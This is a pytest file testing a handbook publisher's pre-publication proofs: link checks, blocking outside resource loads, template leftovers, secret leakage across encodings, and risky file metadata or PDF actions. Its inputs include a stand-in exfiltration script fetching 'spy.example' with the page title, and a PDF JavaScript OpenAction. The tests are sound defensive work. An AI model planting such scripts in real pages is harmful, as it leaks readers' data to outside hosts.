"""An edition with a fault of any kind is refused, and the fault is told with its place."""

from __future__ import annotations

import base64
import io
import zipfile
from datetime import date
from types import SimpleNamespace
from typing import TYPE_CHECKING, cast

import pytest
from pikepdf import Name

from handbook import proof
from handbook.errors import CODES, Refused
from handbook.fill.escape import as_text
from handbook.proof import Beside, table
from handbook.proof.withheld import Secret, Secrets
from handbook.proof.wording import words
from handbook.records import Absent, Record
from handbook.slots import Kind, Scope, Slot, mark
from handbook.view import Edition, View
from picture_files import chunk, exif, jpeg, png
from proof.pdf_files import pdf

if TYPE_CHECKING:
    from collections.abc import Iterator

    from handbook.errors import Problem
    from handbook.outputs import Finished

PAGE = '<html><head><link rel="stylesheet" href="a.css"></head>\n<body id="top">{}</body></html>'
PERSON = Record("people[noor]", {"name": "Noor", "email": Absent("people[noor].email")})


def edition(
    body: str = "", *slots: Slot, edition: Edition = Edition.CLIENT, files: dict[str, bytes] | None = None
) -> Finished:
    """Return a finished edition of one page with a body, and a second page beside it."""
    root = Record(
        "", {"id": "acme", "people": (PERSON,), "done": ("one", "two"), "internal": Absent("internal")}
    )
    view = View(edition, date(2027, 1, 1), "en-GB", draft=False, root=root)
    pages = (SimpleNamespace(path="index.md", slots=slots), SimpleNamespace(path="people/who.md", slots=()))
    manuscript = SimpleNamespace(
        name=f"acme/{edition}", view=view, facts={}, site=SimpleNamespace(slots=(), pages=pages)
    )
    built = {
        "index.html": PAGE.format(body).encode(),
        "people/who.html": b'<link href="../a.css"><h2 id="noor">Noor</h2><a name="old"></a>',
        "a.css": b"",
    }
    return cast(
        "Finished",
        SimpleNamespace(manuscript=manuscript, files=built | (files or {})),
    )


def refusal(finished: Finished, beside: Beside | None = None) -> str:
    """Return the words with which the proofs refuse an edition."""
    with pytest.raises(Refused) as refused:
        proof.prove(finished, beside)
    assert {problem.code for problem in refused.value.problems} <= set(CODES)
    return str(refused.value)


def test_a_clean_edition_is_proved() -> None:
    """An edition without a fault passes all proofs."""
    slot = Slot("Noor", Kind.TEXT, ("people[noor].name", "done[2]", "people"))
    body = (
        '<a href="people/who.html#noor">a</a><a href="people/who.html#old">b</a><a href="#top">c</a>'
        '<a href="https://elsewhere.example/">d</a><a href="mailto:noor@acme.example">e</a>'
        '<img src="data:image/png;base64,AAAA">'
    )
    proof.prove(edition(body, slot))


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ('<a href="gone.html">', "leads to 'gone.html', which this edition does not have"),
        ('<a href="people/who.md">', "leads to 'people/who.md', which this edition does not have"),
        ('<a href="people/">', "leads to 'people', which this edition does not have"),
        ('<a href="../index.html">', "leads to '../index.html', which this edition does not have"),
        ('<a href="/index.html">', "leads to '/index.html', which this edition does not have"),
        (
            '<a href="people/who.html#jeroen">',
            "leads to '#jeroen' of 'people/who.html', where nothing has this id",
        ),
        ('<a href="#Top">', "leads to '#Top' of 'index.html', where nothing has this id"),
        ('<img src="logo.png">', "leads to 'logo.png', which this edition does not have"),
    ],
)
def test_a_link_to_nothing_is_told(body: str, words: str) -> None:
    """A link or picture that leads to no file, or to no anchor of a page, refuses the edition."""
    assert refusal(edition(f"\n  {body}")) == (
        f"acme/client/index.html:3:3: a link {words}; "
        "mend the link on the page, or the condition under which it stands there [BUILD-LINK]"
    )


@pytest.mark.parametrize(
    "body",
    [
        '<script src="https://cdn.example/a.js"></script>',
        '<img src="//cdn.example/a.png">',
        '<link rel="preconnect" href="https://fonts.example">',
        '<link rel="stylesheet" href="http://fonts.example/a.css">',
        '<p style="background: url(https://cdn.example/a.png)">',
        "<style>@import 'https://cdn.example/a.css';</style>",
        '<iframe src="https://maps.example"></iframe>',
        '<svg><image href="https://cdn.example/a.png"/></svg>',
        '<img srcset="a.css 1x, https://cdn.example/b.png 2x">',
        '<pre class="mermaid">graph</pre>',
        '<meta http-equiv="Refresh" content="0; url=https://elsewhere.example">',
        '<base href="https://elsewhere.example">',
        '<script>fetch("https://spy.example/?" + document.title)</script>',
        '<iframe src="javascript:1"></iframe>',
    ],
)
def test_what_a_page_loads_from_outside_is_told(body: str) -> None:
    """Everything that a browser would fetch from another host refuses the edition."""
    assert "is loaded from outside the site; put the file into docs/assets/" in refusal(edition(body))


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a.css", "@font-face { src: url('https://fonts.example/a.woff2') }"),
        ("a.css", "@import '//fonts.example/a.css';"),
        ("assets/js/self-check.js", "import 'https://cdn.example/a.js'"),
        ("assets/js/self-check.js", "fetch(`//spy.example`)"),
        ("assets/logo.svg", '<svg><image href="https://cdn.example/a.png"/></svg>'),
    ],
)
def test_what_other_files_load_from_outside_is_told(path: str, content: str) -> None:
    """Stylesheets, our scripts and drawings fetch nothing from another host either."""
    assert f"acme/client/{path}:1:" in refusal(edition(files={path: content.encode()}))


@pytest.mark.parametrize(
    "left",
    [
        mark(Scope.PAGE, 12),
        mark(Scope.SITE, 0),
        "&#57344;&#57361;",
        "&#xE010;",
        "%EE%80%81",
        '<a href="slot:x">',
    ],
)
def test_a_slot_without_its_value_is_told(left: str) -> None:
    """A mark that no value replaced refuses the edition, however it is written."""
    assert "a value is missing" in refusal(edition(f"<p>{left}</p>"))


def test_a_slot_in_the_search_index_is_told() -> None:
    """A mark is found in JSON too, where it is written as an escape."""
    index = b'{"docs":[{"title":"\\ue000\\ue011\\ue002"}]}'
    assert "search_index.json:1:20: a value is missing" in refusal(
        edition(files={"search_index.json": index})
    )


@pytest.mark.parametrize(
    ("left", "words"),
    [
        ("{{ owner.name }}", "template code was not run"),
        ("{% if x %}", "template code was not run"),
        ("{# note #}", "template code was not run"),
        ('--8<-- "notes.md"', "the guard line of a page was not taken out"),
        ("needs-the-engagement-hook", "the guard line of a page was not taken out"),
        ("Traceback (most recent call last):", "an error was written into the file"),
        ("<!-- ask Jeroen -->", "a comment was left in; write it as {# ... #}, which no reader gets"),
    ],
)
def test_machinery_in_a_page_is_told(left: str, words: str) -> None:
    """Template code, guards and tracebacks in a page refuse the edition."""
    assert f"index.html:2:16: {words}; nothing was published" in refusal(edition(left))


@pytest.mark.parametrize(
    "typed", ["{{ 7*7 }}", '{% include "a" %}', '--8<-- "engagement.yml"', 'a "{{b}}" & <c>']
)
def test_what_somebody_typed_is_no_leftover(typed: str) -> None:
    """A value that looks like template code is shown as typed, and that is right."""
    proof.prove(edition(as_text(typed), Slot(typed, Kind.TEXT, ("people[noor].name",))))


@pytest.mark.parametrize(
    "field",
    ["internal.notes[1]", "people[noor].internal", "parties[acme].internal.stance", "people[noor].email"],
)
def test_a_field_that_the_edition_may_not_see_is_told(field: str) -> None:
    """A value of an internal field, or of one that the view does not hold, refuses the edition."""
    assert refusal(edition("", Slot("x", Kind.TEXT, (field,)))) == (
        f"acme/client/index.html:1:1: {field}: is shown there, and this edition may not see it; "
        "this is a fault of the handbook itself: nothing was published [BUILD-LEDGER]"
    )


def test_all_faults_are_told_at_once() -> None:
    """One run tells every fault of every proof."""
    words = refusal(edition('<a href="x.html">{{ y }}</a><img src="//z.example">'))
    assert [line.rpartition("[")[2] for line in words.splitlines()] == [
        "BUILD-LEFTOVER]",
        "BUILD-LINK]",
        "BUILD-REQUEST]",
    ]


CANDID = "Their board wants a cheaper supplier"


def told(files: dict[str, bytes], body: str = "", secret: str = CANDID) -> str:
    """Return how an edition is refused whose files hold a secret somewhere."""
    beside = Beside((Secrets([Secret("internal.notes[1]", words(secret))]),))
    return refusal(edition(body, files=files), beside)


def zipped(name: str, content: bytes) -> bytes:
    """Return an archive of one file."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name), content)
    return data.getvalue()


@pytest.mark.parametrize(
    "written",
    [
        CANDID,
        CANDID.upper(),
        f'<img src="a.css" alt="{CANDID}">',
        "<p>Their <b>board</b> wants a chea<i>per</i> supplier",
        "<li>Their</li><li>board</li> wants a cheaper supplier",
        "Their&#32;board&nbsp;w&#97;nts&#x20;a cheaper supplier",
        "&amp;#84;heir board wants a cheaper supplier",
        '<a href="?q=Their%20board%20wants%20a%20cheaper%20supplier">x</a>',
        "Their_board-wants: a (cheaper) supplier!",
        '<h2 id="their-board-wants-a-cheaper-supplier">x</h2>',
        f'<img src="data:text/plain;base64,{base64.b64encode(CANDID.encode()).decode()}">',
        f"<p data-x={base64.urlsafe_b64encode(CANDID.encode()).decode()}>",
        f"<p data-x={CANDID.encode().hex()}>",
        f"<p data-x={base64.b64encode(CANDID.encode('utf-16-le')).decode()}>",
        "Their\u00adboard\u200b wants a cheaper supplier".replace("\u00ad", "\u00a0"),
        "Their bo\u00adard wants a cheap\u200ber supplier",
        "\uff34heir board wants a cheaper supplier",
    ],
)
def test_a_secret_is_found_however_it_is_written(written: str) -> None:
    """What the edition withholds is found in all usual encodings, and the message does not repeat it."""
    words = told({}, written)
    assert "index.html:2:1: holds what only the team may read: internal.notes[1]; " in words
    assert "[BUILD-SECRET]" in words
    assert "board" not in words


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("search/search_index.js", b'{"text": "Their \\u0062oard\\nwants a cheaper supplier"}'),
        ("calendar.ics", b"DESCRIPTION:Their board wants a chea\r\n per supplier"),
        ("their-board-wants-a-cheaper-supplier.txt", b""),
        ("a.txt", CANDID.encode("utf-16-le")),
        ("a.txt", b"\xff\xfe" + CANDID.encode("utf-16-be")),
        ("a.zip", zipped("notes/their board wants a cheaper supplier.txt", b"")),
        ("a.zip", zipped("a.txt", CANDID.encode())),
        ("a.zip", zipped("b.zip", zipped("a.txt", CANDID.encode()))),
        ("a.xlsx", zipped("xl/sharedStrings.xml", f"<t>{CANDID}</t>".encode())),
        ("a.pdf", pdf(f"BT /F 12 Tf 72 700 Td ({CANDID}) Tj ET")),
        ("a.pdf", pdf("BT /F 12 Tf 72 700 Td (Their board wants) Tj 0 -14 Td (a cheaper supplier) Tj ET")),
        ("a.pdf", pdf(info={"/Title": CANDID})),
        ("a.pdf", pdf(info={"/Title": f"{CANDID} \u2013 \u4e2d"})),
        ("a.pdf", pdf(bookmark=CANDID)),
        ("a.pdf", pdf(root={"/StructTreeRoot": {"/K": {"/Alt": f"{CANDID} \u4e2d"}}})),
        ("a.pdf", pdf(root={"/Odd": CANDID}, packed=True)),
        ("a.png", png(chunk(b"tEXt", b"Title\0" + CANDID.encode() + b"\0"))),
    ],
)
def test_a_secret_is_found_in_every_kind_of_file(path: str, content: bytes) -> None:
    """Texts, names of files, archives in archives, workbooks, PDFs and pictures are all looked into."""
    assert f"acme/client/{path}:1:1: holds what only the team may read" in told({path: content})


@pytest.mark.parametrize("number", ["96000", "96,000"])
def test_an_amount_is_found(number: str) -> None:
    """Money is found as a number of its own, and not inside a longer one."""
    beside = Beside((Secrets([Secret("internal.amounts.ceiling", words(number))]),))
    assert "internal.amounts.ceiling" in refusal(edition(f"<td>{number} pounds</td>"), beside)
    proof.prove(edition(f"<td>1{number.replace(',', '')}5</td>"), beside)


@pytest.mark.parametrize(
    ("path", "content", "words"),
    [
        ("hidden.html", b"<p>x", "hidden.html:1:1: is no page of this edition"),
        ("notes.txt", b"x", "notes.txt:1:1: is asked for by no page"),
        ("internal/brief.txt", b"x", "internal/brief.txt:1:1: has a place that no such edition has"),
        (".git/config.txt", b"x", ".git/config.txt:1:1: has a place that no such edition has"),
        ("_drafts/a.txt", b"x", "_drafts/a.txt:1:1: has a place that no such edition has"),
        (
            "search/search_index.json",
            b'{"docs": [{"location": "internal/brief.html#x"}]}',
            "search_index.json:1:1: leads to 'internal/brief.html', which is no page",
        ),
    ],
)
def test_a_file_too_many_is_told(path: str, content: bytes, words: str) -> None:
    """A file that no page asks for, and a page that is none of the edition's, refuse it."""
    assert words in refusal(edition(files={path: content}))
    assert "[BUILD-FILES]" in refusal(edition(files={path: content}))


def test_a_page_that_is_missing_is_told() -> None:
    """A page that the edition is to have and does not have refuses it."""
    finished = edition()
    del cast("dict[str, bytes]", finished.files)["people/who.html"]
    assert "people/who.html:1:1: is a page of this edition, and is not there" in refusal(finished)


WORKBOOK = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("path", "content", "words"),
    [
        ("a.png", png(chunk(b"tEXt", b"Author\0Noor")), "carries a piece 'tEXt'"),
        ("a.jpg", jpeg(exif(1)), "carries a piece 'Exif'"),
        ("a.jpg", b"\xff\xd8\xff", "breaks off in the middle"),
        (
            "a.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><metadata>x</metadata></svg>',
            "carries <metadata>",
        ),
        ("a.zip", zipped("a.png", png(behind=b"x")), "has in it 'a.png', which carries something behind"),
        ("a.xlsx", zipped("docProps/core.xml", b"<dc:creator>Noor</dc:creator>"), "tells <dc:creator> Noor"),
        ("a.xlsx", zipped("docProps/app.xml", b"<Company>Acme</Company>"), "tells <Company> Acme"),
        ("a.xlsx", zipped("xl/vbaProject.bin", b"x"), "which is 'vbaProject'"),
        ("a.xlsx", zipped("xl/comments1.xml", b"x"), "which is 'comments'"),
        ("a.xlsx", zipped("xl/workbook.xml", b'<sheet name="a" state="hidden"/>'), "hides a sheet"),
        ("a.xlsx", zipped("xl/_rels/a.rels", b'<R TargetMode="External"/>'), "leads outside"),
        ("a.xlsx", zipped("xl/media/a.png", png(behind=b"x")), "carries something behind its end"),
        ("a.pdf", pdf(info={"/Author": "Noor"}), "tells 'Author'"),
        ("a.pdf", pdf(root={"/OpenAction": {"/S": Name.JavaScript, "/JS": "1"}}), "has in it '/JavaScript'"),
        ("a.pdf", pdf(root={"/Odd": {"/S": Name.Launch}}, packed=True), "has in it '/Launch'"),
        ("a.pdf", pdf(root={"/Names": {"/EmbeddedFiles": {}}}), "has in it '/EmbeddedFiles'"),
        ("a.pdf", pdf(root={"/Odd": {"/URI": "file:///noor/a"}}), "leads to '/URI (file:'"),
        ("a.pdf", b"<html>", "is no whole PDF"),
        ("a.mp4", b"x", "is of a kind that nobody here can look into"),
    ],
)
def test_what_a_file_carries_is_told(path: str, content: bytes, words: str) -> None:
    """Authors, comments, programs, attachments, hidden sheets and unknown kinds of files are refused."""
    body = f'<a href="{path}">x</a>'
    assert f"acme/client/{path}:1:1: " in refusal(edition(body, files={path: content}))
    assert words in refusal(edition(body, files={path: content}))
    assert "[BUILD-CARRIED]" in refusal(edition(body, files={path: content}))


@pytest.mark.parametrize(
    "content",
    [
        png(),
        zipped(WORKBOOK, b"<c/>"),
        zipped("docProps/core.xml", b"<dc:creator></dc:creator>"),
        pdf("% /AA and /JS by chance, as in a font", packed=True),
    ],
)
def test_what_carries_nothing_is_right(content: bytes) -> None:
    """A picture alone, a workbook without words about people, and chance letters in a PDF's stream pass."""
    path = "a.png" if content.startswith(b"\x89PNG") else "a.pdf" if content.startswith(b"%PDF") else "a.xlsx"
    proof.prove(edition(f'<a href="{path}">x</a>', files={path: content}))


@pytest.mark.parametrize("name", proof.PROOFS)
def test_a_proof_that_cannot_be_made_counts_as_failed(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever breaks in a proof, the edition is refused, and the other proofs are made all the same."""

    def broken(_: object) -> Iterator[Problem]:
        raise RecursionError("too deep")

    monkeypatch.setattr(table, "PROOFS", {**proof.PROOFS, name: broken})
    said = refusal(edition('<a href="x.html">{{ y }}</a>'))
    assert f"the proof '{name}' could not be made: RecursionError: too deep; nothing was published" in said
    others = {"links": "BUILD-LINK", "leftovers": "BUILD-LEFTOVER"}
    assert "[BUILD-PROOF]" in said
    assert all(code in said for proof_name, code in others.items() if proof_name != name)


def test_a_file_that_is_no_text_cannot_be_proved() -> None:
    """A page that is not UTF-8 keeps proofs from being made, and so refuses the edition."""
    assert "could not be made: UnicodeDecodeError" in refusal(edition(files={"index.html": b"\xff"}))
